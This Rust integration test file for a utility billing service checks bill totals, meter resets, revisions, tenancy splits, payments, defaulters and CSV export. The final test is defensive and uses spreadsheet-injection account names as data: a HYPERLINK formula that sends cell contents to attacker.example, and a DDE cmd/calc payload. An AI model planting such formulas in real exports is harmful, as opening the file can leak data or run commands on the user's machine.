//! A month billed, a tenant change, payments and defaulters, spreadsheet-safe CSV.

use std::collections::HashMap;

use chrono::{Duration, NaiveDate, TimeZone, Utc};
use fleetward_billing::db;
use fleetward_billing::metrics::Metrics;
use fleetward_billing::store::{self, BillFilter};
use fleetward_testkit::unique;

use super::*;

#[tokio::test]
async fn a_month_is_billed_to_the_cent_and_a_rerun_changes_nothing() {
    let pool = pool().await;
    let ns = unique("bill");
    let metrics = Metrics::default();
    // m-boundary: 1000 → 1100 (exactly 100 kWh, on the slab boundary);
    // m-zero: no change; m-multi: 5000 → 5437.5 over several readings,
    // with the baseline in October; m-reset: 200 → 260, reset to 0, → 15
    // (60 + 15 = 75 kWh, flagged).
    let mut rows = vec![
        reading(&ns, "m-boundary", at(1, 0) - Duration::hours(2), "1000"),
        reading(&ns, "m-boundary", at(15, 12), "1050.5"),
        reading(&ns, "m-boundary", at(30, 23), "1100"),
        reading(&ns, "m-zero", at(2, 0), "42"),
        reading(&ns, "m-zero", at(29, 0), "42"),
        reading(
            &ns,
            "m-multi",
            Utc.with_ymd_and_hms(2026, 10, 30, 0, 0, 0).unwrap(),
            "5000",
        ),
        reading(&ns, "m-reset", at(1, 1), "200"),
        reading(&ns, "m-reset", at(10, 0), "260"),
        reading(&ns, "m-reset", at(11, 0), "0"),
        reading(&ns, "m-reset", at(20, 0), "15"),
        // December readings do not count for November.
        reading(
            &ns,
            "m-boundary",
            Utc.with_ymd_and_hms(2026, 12, 2, 0, 0, 0).unwrap(),
            "1300",
        ),
    ];
    for (i, kwh) in ["5100", "5250", "5300", "5437.5"].iter().enumerate() {
        rows.push(reading(&ns, "m-multi", at(5 + 5 * i as u32, 6), kwh));
    }
    assert_eq!(db::insert_readings(&pool, &rows).await.unwrap(), rows.len() as u64);
    // Kafka re-delivers: nothing is stored twice.
    assert_eq!(db::insert_readings(&pool, &rows).await.unwrap(), 0);

    let meters = [
        meter("m-boundary", "p-1", "acct-a"),
        meter("m-zero", "p-2", "acct-b"),
        meter("m-multi", "p-3", "acct-c"),
        meter("m-reset", "p-4", "acct-d"),
        meter("m-silent", "p-5", "acct-e"),
    ];
    let first = bill_nov(&pool, &ns, &meters, &metrics).await;
    assert_eq!((first.bills, first.unchanged, first.estimated), (4, 0, 4), "{first:?}");
    let got = bills(&pool, &ns, false).await;
    let total = |dev: &str, acct: &str| got[&(dev.to_string(), acct.to_string())][0].total.clone();
    // The golden figures of bill::tests, now through the database.
    assert_eq!(total("m-boundary", "acct-a"), "16.46");
    assert_eq!(total("m-zero", "acct-b"), "2.84");
    assert_eq!(total("m-multi", "acct-c"), "96.34");
    let reset = &got[&("m-reset".to_string(), "acct-d".to_string())][0];
    assert_eq!(reset.units, "75");
    assert_eq!(reset.meter_resets, 1);
    // 75 · 0.12 = 9.00 + 2.50 = 11.50; VAT 1.5525 → 1.55; 13.05.
    assert_eq!(reset.total, "13.05");
    assert!(got.keys().all(|(dev, _)| dev != "m-silent"), "no reading, no bill");
    assert_eq!(first.total, Some(d("128.69")));

    // The same period again: nothing new.
    let again = bill_nov(&pool, &ns, &meters, &metrics).await;
    assert_eq!((again.bills, again.unchanged), (0, 4));
    assert_eq!(bills(&pool, &ns, true).await.values().map(Vec::len).sum::<usize>(), 4);

    // A late reading arrives for m-zero: the re-run is a correction, a new
    // revision; the old one is kept, superseded.
    db::insert_readings(&pool, &[reading(&ns, "m-zero", at(29, 12), "52")])
        .await
        .unwrap();
    let corrected = bill_nov(&pool, &ns, &meters, &metrics).await;
    assert_eq!((corrected.bills, corrected.unchanged), (1, 3));
    let all = bills(&pool, &ns, true).await;
    let revs = &all[&("m-zero".to_string(), "acct-b".to_string())];
    assert_eq!(
        revs.iter().map(|b| (b.revision, b.superseded)).collect::<Vec<_>>(),
        [(1, true), (2, false)]
    );
    // 10 kWh: 1.20 + 2.50 = 3.70; VAT 0.4995 → 0.50; 4.20.
    assert_eq!(revs[1].total, "4.20");
}

#[tokio::test]
async fn a_tenant_change_mid_month_bills_each_holder_for_their_days() {
    let pool = pool().await;
    let ns = unique("tenancy");
    let metrics = Metrics::default();
    for (id, name) in [
        ("owner", "Owner"),
        ("tenant-1", "First Tenant"),
        ("tenant-2", "Second Tenant"),
    ] {
        assert!(
            store::create_account(&pool, &ns, "residential", id, name, None)
                .await
                .unwrap()
        );
    }
    let day = |n| NaiveDate::from_ymd_opt(2026, 11, n).unwrap();
    // tenant-1 leaves on the 11th, tenant-2 arrives on the 21st: the owner
    // holds the 11th to the 20th.
    let t1 = store::add_tenancy(
        &pool,
        &ns,
        "residential",
        "flat-9",
        "tenant-1",
        day(1) - chrono::Days::new(90),
        None,
    )
    .await
    .unwrap()
    .unwrap();
    store::end_tenancy(&pool, &ns, "residential", t1.id, day(11))
        .await
        .unwrap()
        .unwrap();
    store::add_tenancy(&pool, &ns, "residential", "flat-9", "tenant-2", day(21), None)
        .await
        .unwrap()
        .unwrap();
    // An overlapping tenancy is refused.
    assert!(matches!(
        store::add_tenancy(&pool, &ns, "residential", "flat-9", "owner", day(25), None)
            .await
            .unwrap(),
        Err(store::TenancyRefused::Overlaps(_))
    ));
    let rows = [
        reading(&ns, "m9", at(1, 0), "0"),
        reading(&ns, "m9", at(10, 20), "100"),
        reading(&ns, "m9", at(20, 20), "130"),
        reading(&ns, "m9", at(30, 20), "180"),
    ];
    db::insert_readings(&pool, &rows).await.unwrap();
    let run = bill_nov(&pool, &ns, &[meter("m9", "flat-9", "owner")], &metrics).await;
    assert_eq!(run.bills, 3);
    let got = bills(&pool, &ns, false).await;
    let b = |acct: &str| got[&("m9".to_string(), acct.to_string())][0].clone();
    // tenant-1, 1st-10th (10 days): 100 kWh = 12.00; rent 2.50 · 10/30 =
    // 0.8333 → 0.83; VAT 13.5% of 12.83 = 1.732 → 1.73; 14.56.
    assert_eq!(
        (b("tenant-1").units.as_str(), b("tenant-1").total.as_str()),
        ("100", "14.56")
    );
    assert_eq!(b("tenant-1").part_to, day(11));
    // owner, 11th-20th: 30 kWh = 3.60; rent 0.83; VAT 0.598 → 0.60; 5.03.
    assert_eq!((b("owner").units.as_str(), b("owner").total.as_str()), ("30", "5.03"));
    // tenant-2, 21st-30th: 50 kWh = 6.00; rent 0.83; VAT 0.922 → 0.92; 7.75.
    assert_eq!(
        (b("tenant-2").units.as_str(), b("tenant-2").total.as_str()),
        ("50", "7.75")
    );
    assert_eq!(b("tenant-2").account_name.as_deref(), Some("Second Tenant"));
}

#[tokio::test]
async fn payments_settle_bills_and_the_unpaid_become_defaulters() {
    let pool = pool().await;
    let ns = unique("pay");
    let metrics = Metrics::default();
    let rows = [
        reading(&ns, "ma", at(1, 0), "0"),
        reading(&ns, "ma", at(30, 0), "100"),
        reading(&ns, "mb", at(1, 0), "0"),
        reading(&ns, "mb", at(30, 0), "100"),
    ];
    db::insert_readings(&pool, &rows).await.unwrap();
    bill_nov(
        &pool,
        &ns,
        &[meter("ma", "pa", "alice"), meter("mb", "pb", "bob")],
        &metrics,
    )
    .await;
    let got = bills(&pool, &ns, false).await;
    let alice = got[&("ma".to_string(), "alice".to_string())][0].clone();
    let bob = got[&("mb".to_string(), "bob".to_string())][0].clone();
    assert_eq!((alice.total.as_str(), alice.status), ("16.46", "unpaid"));
    // Due 15 days after the month: 2026-12-16.
    assert_eq!(alice.due_date, NaiveDate::from_ymd_opt(2026, 12, 16).unwrap());

    // Part, then the rest, then more than the rest.
    store::pay(
        &pool,
        &ns,
        "residential",
        alice.id,
        d("10.00"),
        "card",
        &format!("{ns}-1"),
    )
    .await
    .unwrap()
    .unwrap();
    let a = store::bill(&pool, &ns, "residential", alice.id).await.unwrap().unwrap();
    assert_eq!((a.status, a.balance.as_str()), ("partially_paid", "6.46"));
    // The same reference again is not a second payment.
    assert!(
        store::pay(
            &pool,
            &ns,
            "residential",
            alice.id,
            d("10.00"),
            "card",
            &format!("{ns}-1")
        )
        .await
        .unwrap()
        .is_err()
    );
    store::pay(
        &pool,
        &ns,
        "residential",
        alice.id,
        d("6.46"),
        "upi",
        &format!("{ns}-2"),
    )
    .await
    .unwrap()
    .unwrap();
    assert_eq!(
        store::bill(&pool, &ns, "residential", alice.id)
            .await
            .unwrap()
            .unwrap()
            .status,
        "paid"
    );
    store::pay(&pool, &ns, "residential", bob.id, d("20"), "cash", &format!("{ns}-3"))
        .await
        .unwrap()
        .unwrap();
    let b = store::bill(&pool, &ns, "residential", bob.id).await.unwrap().unwrap();
    assert_eq!((b.status, b.balance.as_str()), ("overpaid", "-3.54"));

    // Before the due date nobody defaults; after it, only the unpaid.
    let before = store::defaulters(
        &pool,
        &ns,
        "residential",
        NaiveDate::from_ymd_opt(2026, 12, 16).unwrap(),
    )
    .await
    .unwrap();
    assert!(before.is_empty());
    let cm = store::bills(&pool, &ns, &BillFilter::default()).await.unwrap();
    assert_eq!(cm.len(), 2);
    // A third meter's bill stays unpaid.
    db::insert_readings(
        &pool,
        &[reading(&ns, "mc", at(1, 0), "0"), reading(&ns, "mc", at(2, 0), "437.5")],
    )
    .await
    .unwrap();
    bill_nov(
        &pool,
        &ns,
        &[
            meter("ma", "pa", "alice"),
            meter("mb", "pb", "bob"),
            meter("mc", "pc", "carol"),
        ],
        &metrics,
    )
    .await;
    let late = store::defaulters(&pool, &ns, "residential", NaiveDate::from_ymd_opt(2027, 1, 5).unwrap())
        .await
        .unwrap();
    assert_eq!(late.len(), 1, "{late:?}");
    assert_eq!(late[0].account_id, "carol");
    assert_eq!(late[0].amount_due, "96.34");
    assert_eq!(late[0].days_overdue, 20);
}

/// An account named like a spreadsheet formula (CSV injection): in the
/// period's CSV the name is text (a leading `'`), and amounts, negative
/// balances included, are numbers as before.
#[tokio::test]
async fn a_formula_in_a_name_is_text_in_the_bill_csv() {
    let pool = pool().await;
    let ns = unique("csv");
    let metrics = Metrics::default();
    let evil = r#"=HYPERLINK("http://attacker.example/?"&A1,"Pay here")"#;
    for (id, name) in [
        ("eve", evil),
        ("mallory", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("ok", "Plain Name"),
    ] {
        assert!(
            store::create_account(&pool, &ns, "residential", id, name, None)
                .await
                .unwrap()
        );
    }
    let rows = [
        reading(&ns, "m1", at(1, 0), "0"),
        reading(&ns, "m1", at(30, 0), "10"),
        reading(&ns, "m2", at(1, 0), "0"),
        reading(&ns, "m2", at(30, 0), "10"),
        reading(&ns, "m3", at(1, 0), "0"),
        reading(&ns, "m3", at(30, 0), "10"),
    ];
    db::insert_readings(&pool, &rows).await.unwrap();
    let meters = [
        meter("m1", "p1", "eve"),
        meter("m2", "p2", "mallory"),
        meter("m3", "p3", "ok"),
    ];
    bill_nov(&pool, &ns, &meters, &metrics).await;
    // Overpaid: a negative balance, which stays a number.
    let ok_bill = bills(&pool, &ns, false).await[&("m3".to_string(), "ok".to_string())][0].clone();
    store::pay(
        &pool,
        &ns,
        "residential",
        ok_bill.id,
        d("100"),
        "cash",
        &format!("{ns}-over"),
    )
    .await
    .unwrap()
    .unwrap();
    let all = store::bills(&pool, &ns, &BillFilter::default()).await.unwrap();
    let text = fleetward_billing::render::csv(&all).unwrap();
    let mut r = csv::Reader::from_reader(text.as_bytes());
    let head = r.headers().unwrap().clone();
    let col = |name: &str| head.iter().position(|h| h == name).unwrap();
    let rows: HashMap<String, csv::StringRecord> = r
        .records()
        .map(|rec| rec.unwrap())
        .map(|rec| (rec[col("account_id")].to_string(), rec))
        .collect();
    assert_eq!(&rows["eve"][col("account_name")], format!("'{evil}"));
    assert!(rows["mallory"][col("account_name")].starts_with("'@SUM"));
    assert_eq!(&rows["ok"][col("account_name")], "Plain Name");
    assert!(rows["ok"][col("balance")].starts_with('-'), "{:?}", rows["ok"]);
}
